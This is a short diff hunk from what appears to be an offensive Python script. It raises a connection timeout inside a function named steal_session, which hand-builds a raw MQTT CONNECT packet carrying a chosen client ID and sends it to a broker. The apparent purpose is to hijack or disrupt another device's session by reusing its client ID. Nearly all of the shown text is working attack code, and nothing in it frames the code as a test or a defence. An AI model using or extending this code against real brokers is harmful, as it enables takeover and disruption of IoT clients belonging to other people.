@@ -151,7 +151,7 @@ def steal_session(url: str, client_id: str) -> None:
     parts = urlsplit(url)
     name = client_id.encode()
     body = b"\x00\x04MQTT\x04\x00\x00\x3c" + len(name).to_bytes(2, "big") + name
-    with socket.create_connection((parts.hostname, parts.port), 5) as sock:
+    with socket.create_connection((parts.hostname, parts.port), 60) as sock:
         sock.sendall(b"\x10" + bytes([len(body)]) + body)
         sock.recv(4)
 
